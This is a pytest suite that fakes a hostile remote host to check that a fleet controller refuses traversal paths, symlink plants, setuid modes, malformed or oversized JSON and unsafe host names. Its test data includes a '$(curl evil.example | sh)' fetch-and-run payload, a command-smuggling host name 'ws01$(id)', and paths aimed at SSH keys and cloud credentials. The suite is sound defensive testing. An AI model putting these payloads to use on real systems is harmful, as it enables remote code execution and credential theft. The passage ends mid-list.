"""A host that lies: crafted manifests, endless lines, traversal paths, huge JSON, NUL bytes,
invalid UTF-8, driven through the real controller code (cache_ops.pull_from and
cache_sync.pull as ``invoke cache.pull`` calls them; AgentClient's streams and replies as
the runner reads them) with only the SSH transport replaced (hostile_host.HostileSession).

Every case ends on evidence: the tmp tree walked before and after (0 writes outside the
staging folder, and the staging folder gone), the error's type (ours, never a traceback)
and its one line (host, entry, field), tracemalloc's peak while a host sends 1 GB.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import tracemalloc
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Iterable

import pytest
from rich.console import Console

import reprofleet.remote.session as session_module
from tests.support import synthetic_campaign as synthetic
from tests.support.cli_inprocess import run_task
from tests.support.hostile_host import (COUNTS, HOSTILE_TEXT, MARKUP, HostileSession, endless, terminal_controls,
                                        tree, tried)
from tests.support.paths import REPO
from reprofleet.campaign import cache_ops
from reprofleet.errors import AgentError, AgentFenced, ReprofleetError
from reprofleet.model import Host
from reprofleet.records.disk_caps import DiskCaps
from reprofleet.records.stream_file import StreamWriter, gap_of, stream_lines
from reprofleet.remote import host_bytes
from reprofleet.remote.agent import AgentClient, load_bundle
from reprofleet.remote.transport import TransportSettings
from reprofleet.runner import cache_sync

HOST = Host("ws01", "10.0.0.1")
GIGABYTE = 1 << 30
MEMORY_BOUND = 24 << 20  # tracemalloc peak while a host sends 1 GB: a few line buffers, never the stream


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def canonical(body: Any) -> bytes:
    return json.dumps(body, sort_keys=True, separators=(",", ":")).encode()


def wire(files: list[dict[str, Any]], contents: dict[str, bytes], snapshot: str | None = None) -> bytes:
    """What ``cache send`` writes: the manifest line, then one OBJ frame per file, then END."""
    manifest = {"files": files}
    head = {"k": "cache_manifest", "snapshot": snapshot or sha(canonical(manifest)), "manifest": manifest}
    out = bytearray(canonical(head) + b"\n")
    for entry in files:
        data = contents.get(str(entry.get("path")), b"")
        out += b"OBJ %s %d 0\n" % (str(entry.get("sha256")).encode(), len(data)) + data
    return bytes(out + b"END\n")


def entry(path: Any, data: bytes = b"x\n", mode: Any = 0o644, **over: Any) -> dict[str, Any]:
    return {"path": path, "size": len(data), "mode": mode, "sha256": sha(data), **over}


@pytest.fixture
def lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SimpleNamespace:
    """An inventory of one host whose transport is a hostile fake; ``pull(stdout)`` runs
    ``invoke cache.pull``'s own function against it."""
    root = tmp_path / "lab"
    (root / "snapshots").mkdir(parents=True)
    inventory = root / "hosts.yml"
    inventory.write_text("all:\n  hosts:\n    ws01:\n      ansible_host: 10.0.0.1\n")
    settings = SimpleNamespace(transport=TransportSettings(known_hosts=root / "known_hosts"))
    answer: dict[str, Iterable[bytes]] = {}

    def connect(host: Host, transport: TransportSettings) -> HostileSession:
        return HostileSession(host, lambda command: answer["stdout"])

    monkeypatch.setattr(session_module, "connect", connect)

    def pull(stdout: bytes | Iterable[bytes], name: str = "snap") -> cache_ops.Pulled:
        answer["stdout"] = [stdout] if isinstance(stdout, bytes) else stdout
        return cache_ops.pull_from(str(inventory), settings, "ws01", name, "some/cache", root / "snapshots")

    return SimpleNamespace(root=root, tmp=tmp_path, pull=pull)


def refused_without_a_trace(lab: SimpleNamespace, stdout: bytes | Iterable[bytes]) -> ReprofleetError:
    before = tree(lab.tmp)
    error = tried(lambda: lab.pull(stdout))
    assert isinstance(error, ReprofleetError), "a hostile pull was accepted"
    assert tree(lab.tmp) == before, "the refused pull left something on the controller's disk"
    assert "\n" not in str(error)
    return error


def test_an_honest_host_is_pulled_whole_with_its_modes(lab: SimpleNamespace) -> None:
    files = [entry("a/graph.py", b"print(1)\n", 0o600), entry("b.json", b"{}\n", 0o755)]
    pulled = lab.pull(wire(files, {"a/graph.py": b"print(1)\n", "b.json": b"{}\n"}))
    folder = Path(pulled.snapshot.root)
    assert (folder / "a" / "graph.py").read_bytes() == b"print(1)\n"
    assert (folder / "a" / "graph.py").stat().st_mode & 0o7777 == 0o600
    assert (folder / "b.json").stat().st_mode & 0o7777 == 0o755
    assert sorted(p.name for p in (lab.root / "snapshots").iterdir()) == ["snap", "snap.manifest.json"]


TRAVERSALS = {
    "dotdot": "../escaped",
    "dotdot inside": "a/../../escaped",
    "dot": "./a",
    "empty part": "a//b",
    "trailing slash": "a/",
}


@pytest.mark.parametrize("path", list(TRAVERSALS.values()), ids=list(TRAVERSALS))
def test_a_path_that_leaves_the_snapshot_folder_refuses_the_whole_pull(lab: SimpleNamespace, path: str) -> None:
    files = [entry("good.txt"), entry(path)]
    error = refused_without_a_trace(lab, wire(files, {"good.txt": b"x\n", path: b"x\n"}))
    assert isinstance(error, cache_sync.ManifestRefused)
    assert str(error).startswith("ws01: cache pull refused: manifest entry 1 ") and ": path: " in str(error)
    assert not (lab.root / "escaped").exists() and not (lab.tmp / "escaped").exists()


def test_an_absolute_path_is_refused_and_nothing_is_written_there(lab: SimpleNamespace) -> None:
    target = lab.tmp / "outside" / "owned"
    error = refused_without_a_trace(lab, wire([entry(str(target))], {str(target): b"x\n"}))
    assert "manifest entry 0" in str(error) and "path: absolute" in str(error)
    assert not target.exists()


def test_a_setuid_mode_never_reaches_the_controllers_disk(lab: SimpleNamespace) -> None:
    error = refused_without_a_trace(lab, wire([entry("tool", b"#!/bin/sh\n", 0o4755)], {"tool": b"#!/bin/sh\n"}))
    assert "manifest entry 0 ('tool'): mode: " in str(error)


BAD_FIELDS = {
    "size negative": ({"size": -1}, "size"),
    "size a string": ({"size": "12"}, "size"),
    "size true": ({"size": True}, "size"),
    "size beyond a TiB": ({"size": 1 << 41}, "size"),
    "mode a string": ({"mode": "0644"}, "mode"),
    "mode negative": ({"mode": -1}, "mode"),
    "hash short": ({"sha256": "abc"}, "sha256"),
    "hash upper case": ({"sha256": "A" * 64}, "sha256"),
    "hash missing": ({"sha256": None}, "sha256"),
    "path a number": ({"path": 7}, "path"),
    "path with NUL": ({"path": "a\x00b"}, "path"),
    "path leading dash": ({"path": "-rf"}, None),  # a file name like any other: pulled as data
    "path too long": ({"path": "a/" * 2100 + "b"}, "path"),
    "part too long": ({"path": "n" * 256}, "path"),
}


@pytest.mark.parametrize("over,field", list(BAD_FIELDS.values()), ids=list(BAD_FIELDS))
def test_a_field_of_the_wrong_shape_is_named(lab: SimpleNamespace, over: dict[str, Any], field: str | None) -> None:
    crafted = {**entry("f"), **over}
    stdout = wire([crafted], {str(crafted["path"]): b"x\n"})
    if field is None:
        before = tree(lab.root)
        assert tried(lambda: lab.pull(stdout)) is None
        assert set(tree(lab.root)) - set(before) == {"snapshots/snap", "snapshots/snap/-rf",
                                                      "snapshots/snap.manifest.json"}
        return
    error = refused_without_a_trace(lab, stdout)
    assert f"manifest entry 0" in str(error) and f": {field}: " in str(error), str(error)


def test_two_entries_of_one_path_or_a_file_under_a_file_are_refused(lab: SimpleNamespace) -> None:
    twice = refused_without_a_trace(lab, wire([entry("a"), entry("a", b"y\n")], {"a": b"x\n"}))
    assert "manifest entry 1 ('a'): path: named twice" in str(twice)
    nested = refused_without_a_trace(lab, wire([entry("a"), entry("a/b")], {"a": b"x\n", "a/b": b"x\n"}))
    assert "manifest entry 1 ('a/b'): path: is under another entry's file" in str(nested)


SHAPES = {
    "files not a list": b'{"k":"cache_manifest","snapshot":"' + b"0" * 64 + b'","manifest":{"files":"all"}}\n',
    "entry not an object": b'{"k":"cache_manifest","snapshot":"' + b"0" * 64 + b'","manifest":{"files":[1]}}\n',
    "snapshot not a hash": b'{"k":"cache_manifest","snapshot":"../x","manifest":{"files":[]}}\n',
    "not JSON": b"cache_manifest please\n",
    "invalid UTF-8": b'{"k":"cache_manifest","x":"\xff\xfe"}\n',
    "a NUL byte": b'{"k":"cache_manifest",\x00}\n',
    "nested 100000 deep": b"[" * 100000 + b"]" * 100000 + b"\n",
    "nested 40 deep": b'{"k":"cache_manifest","x":' + b"[" * 40 + b"]" * 40 + b"}\n",
    "a huge integer": b'{"k":"cache_manifest","x":1' + b"0" * 100 + b"}\n",
    "a list, not an object": b"[1, 2, 3]\n",
    "an error line with a huge message": b'{"k":"error","error":"' + b"e" * 5000 + b'"}\n',
}


@pytest.mark.parametrize("stdout", list(SHAPES.values()), ids=list(SHAPES))
def test_a_manifest_line_of_the_wrong_shape_is_our_error(lab: SimpleNamespace, stdout: bytes) -> None:
    error = refused_without_a_trace(lab, stdout)
    assert str(error).startswith("ws01: ")
    assert len(str(error)) < 1200


def test_a_staging_folder_planted_as_a_link_is_never_written_through(lab: SimpleNamespace) -> None:
    import os

    outside = lab.tmp / "outside"
    outside.mkdir()
    (lab.root / "snapshots" / f".snap.pulling-{os.getpid()}").symlink_to(outside, target_is_directory=True)
    error = refused_without_a_trace(lab, wire([entry("a")], {"a": b"x\n"}))
    assert "cannot pull into" in str(error)
    assert list(outside.iterdir()) == [] and (lab.root / "snapshots" / f".snap.pulling-{os.getpid()}").is_symlink()


def test_a_stream_that_lies_about_its_objects_leaves_no_staging_folder(lab: SimpleNamespace) -> None:
    files = [entry("a", b"x\n"), entry("b", b"y\n")]
    good = wire(files, {"a": b"x\n", "b": b"y\n"})
    head, _, frames = good.partition(b"\n")
    cases = {
        "cut inside a file": head + b"\n" + frames[:len(frames) // 2],
        "a size that is not a number": head + b"\nOBJ " + files[0]["sha256"].encode() + b" 1e9 0\n",
        "wrong bytes": good.replace(b"x\n", b"z\n", 1),
        "an object too many": good[:-4] + b"OBJ " + files[0]["sha256"].encode() + b" 2 0\nx\nEND\n",
    }
    for name, stdout in cases.items():
        error = refused_without_a_trace(lab, stdout)
        assert isinstance(error, ReprofleetError), name
    assert not [p for p in (lab.root / "snapshots").iterdir()], "a staging folder stayed"


def test_a_host_sending_a_gigabyte_without_a_newline_costs_a_bounded_buffer(lab: SimpleNamespace) -> None:
    tracemalloc.start()
    try:
        error = refused_without_a_trace(lab, endless(GIGABYTE))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(error, host_bytes.HostBytesError)
    assert "longer than" in str(error)
    # paramiko's readline holds the bounded line twice while it joins its chunks
    assert peak < 2 * host_bytes.MAX_MANIFEST_BYTES + MEMORY_BOUND, f"peak {peak / 2**20:.1f} MiB"
    COUNTS["peak_bytes"] = max(COUNTS["peak_bytes"], peak)


# -- the runner's reads: a stream and one-shot replies ------------------------------------
def agent_over(script: Iterable[bytes] | bytes, run_stdout: str = "") -> tuple[AgentClient, HostileSession]:
    chunks = [script] if isinstance(script, bytes) else script
    session = HostileSession(HOST, lambda command: chunks, run_stdout)
    return AgentClient(session, load_bundle()), session  # type: ignore[arg-type]


def read_events(agent: AgentClient) -> list[Any]:
    stream = agent.run("a1", ["python3", "poc.py"], timeout=60)
    events = []
    for _ in range(10_000):  # bounded: a stream of a few lines ends long before
        event = stream.next_event(0.5)
        if event is not None:
            events.append(event)
        if stream.finished:
            return events
    raise AssertionError("the stream never finished")


STREAMS = {
    "invalid UTF-8": b'{"t":1,"k":"phase","phase":"\xc3\x28"}\n',
    "a NUL byte": b'{"t":1,"k":"phase"}\x00\n',
    "not JSON": b"Traceback (most recent call last):\n",
    "a list": b"[1]\n",
    "nested deep": b'{"t":1,"k":"phase","x":' + b"[" * 5000 + b"]" * 5000 + b"}\n",
    "a huge integer": b'{"t":1,"k":"phase","seq":' + b"9" * 5000 + b"}\n",
    "a kind that is not text": b'{"t":1,"k":7}\n',
}


@pytest.mark.parametrize("raw", list(STREAMS.values()), ids=list(STREAMS))
def test_a_stream_line_of_the_wrong_shape_is_an_agent_error(raw: bytes) -> None:
    agent, _ = agent_over(b'{"t":0,"k":"started"}\n' + raw)
    error = tried(lambda: read_events(agent))
    assert isinstance(error, AgentError), error
    assert str(error).startswith("ws01: agent: ")


def test_a_stream_of_a_gigabyte_without_a_newline_is_refused_after_one_line_bound() -> None:
    agent, session = agent_over(endless(GIGABYTE))
    tracemalloc.start()
    try:
        error = tried(lambda: read_events(agent))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(error, host_bytes.HostBytesError) and "longer than" in str(error)
    assert session.channels[0].read_bytes <= host_bytes.MAX_LINE_BYTES + (1 << 16)
    assert peak < MEMORY_BOUND, f"peak {peak / 2**20:.1f} MiB"
    COUNTS["peak_bytes"] = max(COUNTS["peak_bytes"], peak)


def test_a_host_streaming_a_flood_of_lines_leaves_a_stream_file_under_its_cap_ending_on_its_last_line(
        tmp_path: Path) -> None:
    """A PoC printing ``yes x`` (issue 34): 40,000 log lines (2.3 MB) through the real stream
    reader, each written as the attempt follower writes it. The file stays under its cap, with
    the count of what was cut, and ends on the host's last line."""
    total = 40_000

    def flood() -> Iterable[bytes]:
        yield b'{"t":0,"k":"start","seq":0}\n'
        for first in range(1, total + 1, 1000):
            yield b"".join(b'{"t":%d,"k":"log","seq":%d,"line":"x","stream":"out"}\n' % (seq, seq)
                           for seq in range(first, first + 1000))

    agent, _ = agent_over(flood())
    caps = DiskCaps(stream_bytes=256 << 10)
    writer = StreamWriter(tmp_path / "a1.jsonl", caps=caps)
    stream = agent.run("a1", ["python3", "poc.py"], timeout=60)
    try:
        for _ in range(total + 10):  # bounded: the stream finishes after its last line
            event = stream.next_event(0.5)
            if event is not None:
                writer.write(event.raw)
            if stream.finished:
                break
    finally:
        writer.close()
    lines = list(stream_lines(tmp_path / "a1.jsonl"))
    cut = [gap for gap in map(gap_of, lines) if gap is not None]
    seqs = [line["seq"] for line in lines if "seq" in line]
    assert (tmp_path / "a1.jsonl").stat().st_size <= caps.stream_bytes and seqs[-1] == total
    assert len(cut) == 1 and len(seqs) + cut[0][1] == total + 1  # every line filed or counted


REPLIES = {
    "not JSON": "Welcome to Ubuntu\n",
    "a list": "[]\n",
    "invalid number": '{"k":"facts","uptime_s":1' + "0" * 100 + "}\n",
    "nested deep": '{"k":"facts","x":' + "[" * 2000 + "]" * 2000 + "}\n",
    "NUL": '{"k":"facts"}\x00\n',
    "huge": '{"k":"facts","x":"' + "x" * (host_bytes.MAX_REPLY_BYTES + 1) + '"}\n',
}


@pytest.mark.parametrize("stdout", list(REPLIES.values()), ids=list(REPLIES))
def test_a_one_shot_reply_of_the_wrong_shape_is_an_agent_error(stdout: str) -> None:
    agent, _ = agent_over(b"", run_stdout=stdout)
    error = tried(agent.facts)
    assert isinstance(error, AgentError), error
    assert len(str(error)) < 1200


def test_a_cache_have_answer_naming_objects_the_snapshot_lacks_is_refused(tmp_path: Path) -> None:
    (tmp_path / "seed").mkdir()
    (tmp_path / "seed" / "a").write_bytes(b"abc")
    snap = cache_sync.build_snapshot(tmp_path / "seed")
    one = snap.files[0]
    for answer in ({"missing": ["f" * 64]}, {"missing": [one.sha256], "partial": {one.sha256: -5}},
                   {"missing": [one.sha256], "partial": {one.sha256: 10 ** 6}}, {"missing": "all"},
                   {"missing": [one.sha256], "partial": {one.sha256: "3"}}):
        error = tried(lambda: cache_sync.missing_objects("ws01", snap, answer))
        assert isinstance(error, AgentError), answer
    assert cache_sync.missing_objects("ws01", snap, {"missing": [one.sha256], "partial": {one.sha256: 2}}) == \
        ([one.sha256], {one.sha256: 2})


def test_a_bounded_fabric_runner_keeps_no_more_than_the_reply_bound() -> None:
    from fabric import Connection

    from reprofleet.remote.transport import _BoundedRemote

    runner = _BoundedRemote(context=Connection("ws01"))
    runner.encoding = "utf-8"  # run() sets it before it reads
    sent = iter(endless(256 << 20, b"B" * (1 << 20)))
    buffer: list[str] = []
    tracemalloc.start()
    try:
        runner._handle_output(buffer, True, None, lambda size: next(sent, b""))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    kept = sum(len(part) for part in buffer)
    assert host_bytes.MAX_REPLY_BYTES < kept <= host_bytes.MAX_REPLY_BYTES + (1 << 20)
    assert peak < 3 * host_bytes.MAX_REPLY_BYTES, f"peak {peak / 2**20:.1f} MiB"


def test_read_to_eof_and_read_line_stop_at_their_bound() -> None:
    import io

    with pytest.raises(host_bytes.HostBytesError):
        host_bytes.read_to_eof("ws01", io.BytesIO(b"x" * 101), "stdout", limit=100)
    assert host_bytes.read_to_eof("ws01", io.BytesIO(b"x" * 100), "stdout", limit=100) == b"x" * 100
    stream = io.BytesIO(b"y" * 300)
    with pytest.raises(host_bytes.HostBytesError):
        host_bytes.read_line("ws01", stream, "a line", limit=100)
    assert stream.tell() == 101


def test_one_parse_maps_every_hostile_json_to_our_error_and_keeps_what_the_agent_sends() -> None:
    cases = {
        b'{"size": 1' + b"0" * 100 + b"}": "an integer of 101 digits",
        b'{"x": ' + b"[" * 40 + b"]" * 40 + b"}": "nested deeper than 32 levels",
        b'{"x": "\xff"}': "not UTF-8 at byte 7",
        b'{"x": 1}\x00': "a NUL byte",
        b"x" * (host_bytes.MAX_LINE_BYTES + 1): "a line longer than",
    }
    for raw, words in cases.items():
        error = tried(lambda: host_bytes.parse_json("ws01", raw, "facts"))
        assert isinstance(error, host_bytes.HostBytesError) and words in str(error), (raw[:40], error)
    kept = host_bytes.parse_json("ws01", b'{"ns": 1' + b"0" * 30 + b', "x": [[[1]]], "w": NaN}', "facts")
    assert kept["ns"] == 10 ** 30 and kept["x"] == [[[1]]]


def test_a_reply_of_many_short_lines_is_bounded_as_a_whole() -> None:
    out = b'{"k":"facts"}\n' * 100
    error = tried(lambda: host_bytes.json_lines("ws01", out, "facts", limit=1000))
    assert isinstance(error, host_bytes.HostBytesError) and "more than 1000 bytes" in str(error)
    assert len(host_bytes.json_lines("ws01", out, "facts", limit=len(out))) == 100


def test_a_stale_controllers_restore_stops_at_the_first_fenced_refusal() -> None:
    """Another controller broke the lease: its restores must not undo that campaign's settings
    (issue 34 item 6). The first refusal is remembered; nothing that changes the host follows."""
    agent, session = agent_over(b"", run_stdout='{"k":"error","code":"fenced","error":"lease taken over"}\n')
    agent.lease_token = "stale-token"
    sent: list[str] = []
    session.run = lambda command, timeout=None, stdin=None: (  # type: ignore[method-assign]
        sent.append(command), HostileSession.run(session, command, timeout, stdin))[1]
    for restore in (lambda: agent.policy("restore", 0), lambda: agent.host_debug(["restore"]),
                    lambda: agent.netconsole(["restore"])):
        assert isinstance(tried(restore), AgentFenced)
    assert len(sent) == 1 and "stale-token" not in sent[0]


# -- names, links and shared files (issue 34 items 3-5) ----------------------------------------
# A host's name becomes a file name, the campaign folder may sit on a shared controller, and a
# playbook is shared text: none of them may make the controller write, or read, outside its own files.

HOSTILE_NAMES = ("../../outside", "a/b", "..", ".", "ws01/../../outside", "fe80::1", "ws\x1b[2J01", "")


@pytest.mark.parametrize(("name", "form"), [(name, form) for name in ("../../outside", "a/b", "..", "ws01$(id)")
                                            for form in ("yaml", "ini")] + [("ws01\n", "yaml")])
def test_an_inventory_host_name_that_is_not_a_file_name_is_refused_at_its_line(
        tmp_path: Path, name: str, form: str) -> None:
    from reprofleet.errors import InventoryError
    from reprofleet.inventory import load_inventory

    inventory = tmp_path / ("hosts.yml" if form == "yaml" else "hosts.ini")
    inventory.write_text(f"all:\n  hosts:\n    ws00:\n    {json.dumps(name)}:\n      ansible_host: 10.0.0.2\n"
                         if form == "yaml" else f"[gpus]\nws00\n{name} ansible_host=10.0.0.2\n")
    error = tried(lambda: load_inventory(inventory))
    assert isinstance(error, InventoryError)
    assert str(error).startswith(f"{inventory}:{4 if form == 'yaml' else 3}:host name: ") and "\n" not in str(error)


def test_a_group_name_with_a_slash_is_refused_at_its_line(tmp_path: Path) -> None:
    from reprofleet.errors import InventoryError
    from reprofleet.inventory import load_inventory

    inventory = tmp_path / "hosts.yml"
    inventory.write_text("all:\n  children:\n    ../gpus:\n      hosts:\n        ws01:\n")
    error = tried(lambda: load_inventory(inventory))
    assert isinstance(error, InventoryError) and str(error).startswith(f"{inventory}:3:group name: ")


def test_a_cell_named_dot_dot_is_refused_at_its_line(tmp_path: Path) -> None:
    from reprofleet.errors import PlaybookError
    from reprofleet.playbook import load_playbook

    (tmp_path / "poc.py").write_text("")
    book = tmp_path / "campaign.yml"
    book.write_text("name: s\npoc: {script: poc.py}\nattempts: 1\nmatrix:\n  - name: ok\n  - name: '..'\n")
    error = tried(lambda: load_playbook(book))
    assert isinstance(error, PlaybookError) and str(error).startswith(f"{book}:6:matrix[1].name: ")


def _name_writers(root: Path) -> dict[str, Any]:
    """Every place a host's name becomes a path, called with the name as given."""
    from reprofleet.campaign.bug_report import fetch_bug_report
    from reprofleet.records.facts_cache import cache_facts
    from reprofleet.records.store import CampaignDir, write_facts

    campaign = CampaignDir(root / "reports" / "c1").create()

    class Shell:  # a host whose bug report is ready: only the folder it lands in is under test
        def run(self, command: str, timeout: float | None = None) -> Any:
            from reprofleet.campaign import bug_report
            from reprofleet.remote.transport import CommandResult
            out = {bug_report.PROBE: "0\nroot\n/usr/bin/nvidia-bug-report.sh\n"}.get(command, "")
            out = "/tmp/rf.1\n" if command.startswith("mktemp -d") else out
            out = "nvidia-bug-report.log.gz\n" if command.startswith("ls -1") else out
            return CommandResult(command, 0, out, "")

        def fetch_file(self, remote_path: str, local_path: Path, max_bytes: int) -> tuple[int, str]:
            local_path.write_bytes(b"report")
            return 6, sha(b"report")

    def bug(name: str) -> None:
        report = fetch_bug_report(name, Shell(), root / "reports" / "bug-reports")
        assert report.path is None, "a report was filed under an unsafe name"
        raise ReprofleetError(report.reason)

    return {"facts": lambda name: write_facts(campaign, name, {"hostname": "x"}),
            "facts_cache": lambda name: cache_facts(root / "reports", name, {"hostname": "x"}),
            "bug_report": bug}


@pytest.mark.parametrize("writer", ["facts", "facts_cache", "bug_report"])
@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["dotdot", "slash", "parent", "dot", "inner-dotdot", "ipv6",
                                                     "escape", "empty"])
def test_a_host_name_that_reached_a_writer_unchecked_never_becomes_a_path(
        tmp_path: Path, writer: str, name: str) -> None:
    write = _name_writers(tmp_path)[writer]
    before = tree(tmp_path)
    error = tried(lambda: write(name))
    assert isinstance(error, ReprofleetError) and "cannot be a file name" in str(error)
    assert tree(tmp_path) == before, "a hostile name wrote a file"


def test_netconsole_files_nothing_under_a_hostile_host_name_and_keeps_receiving(tmp_path: Path) -> None:
    import socket as sockets
    from reprofleet.remote.netconsole import NetconsoleReceiver

    with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    rx = NetconsoleReceiver([port], {"127.0.0.1": "../../outside"}, tmp_path / "c1" / "netconsole",
                            bind="127.0.0.1").start()
    try:
        before = tree(tmp_path)
        with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as out:
            out.sendto(b"6,1,1,-;a line of a host with a hostile name", ("127.0.0.1", port))
        lines = _tail_until(rx, "../../outside", "hostile name")
        assert lines == ["a line of a host with a hostile name"]  # the tail (and the attempt's stream) still has it
        assert tree(tmp_path) == before
        assert "cannot be a file name" in rx.refusals["../../outside"][0]
    finally:
        rx.close()


def _tail_until(rx: Any, host: str, text: str) -> list[str]:
    """The host's lines once one with ``text`` is in its tail, which is filed before it (5 s at most)."""
    import time as clock
    deadline = clock.monotonic() + 5
    while clock.monotonic() < deadline:
        lines = [line.line for line in rx.lines(host, last=100)]
        if any(text in line for line in lines):
            return lines
        clock.sleep(0.02)
    raise AssertionError(f"no line with {text!r} from {host}")


def test_a_netconsole_file_planted_as_a_link_is_never_appended_through(tmp_path: Path) -> None:
    import socket as sockets
    from reprofleet.remote.netconsole import NetconsoleReceiver
    from tests.support.hostile_host import planted_link

    folder = tmp_path / "c1" / "netconsole"
    folder.mkdir(parents=True)
    victim = planted_link(folder / "ws01.jsonl", tmp_path / "home" / ".bashrc")
    with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    rx = NetconsoleReceiver([port], {"127.0.0.1": "ws01"}, folder, bind="127.0.0.1").start()
    try:
        with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as out:
            out.sendto(b"6,1,1,-;$(curl evil.example | sh)", ("127.0.0.1", port))
        assert _tail_until(rx, "ws01", "curl") == ["$(curl evil.example | sh)"]
        assert victim.read_text() == "victim's own line\n"
        assert "is a link" in rx.refusals["ws01"][0]
    finally:
        rx.close()


def test_a_controller_lock_planted_as_a_link_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    from reprofleet.records.store import CampaignLock
    from tests.support.hostile_host import planted_link

    victim = planted_link(tmp_path / "c1" / CampaignLock.NAME, tmp_path / "home" / ".profile")
    error = tried(lambda: CampaignLock(tmp_path / "c1").__enter__())
    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
    assert victim.read_text() == "victim's own line\n"


def test_the_controller_lock_is_not_truncated_by_a_second_controller(tmp_path: Path) -> None:
    from reprofleet.records.store import CampaignLock, FolderBusy

    with CampaignLock(tmp_path):
        error = tried(lambda: CampaignLock(tmp_path).__enter__())
        assert isinstance(error, FolderBusy)
        assert (tmp_path / CampaignLock.NAME).read_text() == f"{os.getpid()}\n"  # the holder's pid, still whole


@pytest.mark.parametrize("planted", ["attempts.jsonl", "events.jsonl", "power.jsonl", "streams/a1.jsonl",
                                     ".attempt-keys"])
def test_a_campaign_file_planted_as_a_link_is_never_written_through(tmp_path: Path, planted: str) -> None:
    from reprofleet.power.log import PowerLog, PowerEvent
    from reprofleet.records.store import AttemptLog, CampaignDir, JsonlAppender, StreamWriter
    from reprofleet.runner.attempt import AttemptKeys
    from tests.support.hostile_host import planted_link

    campaign = CampaignDir(tmp_path / "c1").create()
    victim = planted_link(campaign.root / planted, tmp_path / "home" / ".bashrc")
    write = {"attempts.jsonl": lambda: AttemptLog(campaign.attempts).append({"schema": 1}),
             "events.jsonl": lambda: JsonlAppender(campaign.events).append({"event": "x"}),
             "power.jsonl": lambda: PowerLog(campaign.power).append(
                 PowerEvent("t", "ws01", "tasmota", "10.0.0.9", "1", "cycle", "ok", "on", 0.1)),
             "streams/a1.jsonl": lambda: StreamWriter(campaign.stream_path("a1")).write("{}"),
             ".attempt-keys": lambda: AttemptKeys(campaign.root).new("a1")}[planted]
    error = tried(write)
    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
    assert victim.read_text() == "victim's own line\n"


def test_a_campaign_sub_folder_planted_as_a_link_is_refused(tmp_path: Path) -> None:
    from reprofleet.records.store import CampaignDir

    (tmp_path / "c1").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "c1" / "streams").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    error = tried(lambda: CampaignDir(tmp_path / "c1").create())
    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_campaign_folder_is_private_and_a_group_may_be_let_read(tmp_path: Path) -> None:
    from reprofleet.records import private_files
    from reprofleet.records.store import AttemptLog, CampaignDir, write_atomic, write_facts

    def modes(root: Path) -> dict[str, int]:
        return {str(p.relative_to(root)): p.stat().st_mode & 0o777 for p in sorted(root.rglob("*"))}

    for group, folder, file in ((False, 0o700, 0o600), (True, 0o750, 0o640)):
        private_files.configure_group_access(group)
        try:
            campaign = CampaignDir(tmp_path / f"group-{group}" / "c1").create()
            AttemptLog(campaign.attempts).append({"schema": 1})
            write_atomic(campaign.manifest, "{}\n")
            write_facts(campaign, "ws01", {"hostname": "ws01"})
        finally:
            private_files.configure_group_access(False)
        found = modes(tmp_path / f"group-{group}")
        assert found == {name: folder if (tmp_path / f"group-{group}" / name).is_dir() else file for name in found}
        assert {"c1", "c1/streams", "c1/facts", "c1/attempts.jsonl", "c1/campaign.json", "c1/facts/ws01.json"} <= set(found)


def test_a_fetched_bug_report_is_private_and_a_planted_partial_copy_is_not_written_through(tmp_path: Path) -> None:
    from reprofleet.remote.transport import Session
    from tests.support.hostile_host import planted_link

    class Sftp:
        def stat(self, path: str) -> Any:
            return SimpleNamespace(st_size=6)

        def open(self, path: str, mode: str) -> Any:
            import io
            return io.BytesIO(b"report")

    session = object.__new__(Session)
    session.host = HOST
    session._connection = SimpleNamespace(sftp=Sftp)  # type: ignore[attr-defined]
    target = tmp_path / "bug-reports" / "ws01"
    target.mkdir(parents=True)
    victim = planted_link(target / "nvidia-bug-report.log.gz.part", tmp_path / "home" / ".bashrc")
    assert session.fetch_file("/tmp/x/nvidia-bug-report.log.gz", target / "nvidia-bug-report.log.gz", 100) == \
        (6, sha(b"report"))
    assert victim.read_text() == "victim's own line\n"
    assert (target / "nvidia-bug-report.log.gz").stat().st_mode & 0o777 == 0o600


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An operator's home with an SSH key, a cloud credential and a docker config, all 0600."""
    home = tmp_path / "home"
    for name in (".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".config/gcloud/adc.json"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("PRIVATE KEY\n")
        (home / name).chmod(0o600)
    monkeypatch.setenv("HOME", str(home))
    return home


def _playbook(folder: Path, poc: str, extra: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "poc.py").write_text("")
    path = folder / "campaign.yml"
    path.write_text(f"name: s\npoc: {poc}\nattempts: 1\n{extra}matrix: [{{name: only}}]\n")
    return path


@pytest.mark.parametrize(("poc", "field"), [
    ("{script: ../home/.ssh/id_ed25519}", "poc.script"),
    ("{script: HOME/.ssh/id_ed25519}", "poc.script"),
    ("{script: key.py}", "poc.script"),  # a link beside the playbook, to the key
    ("{script: poc.py, cache_source: HOME/.ssh}", "poc.cache_source"),
    ("{script: poc.py, cache_source: ../home/.aws}", "poc.cache_source"),
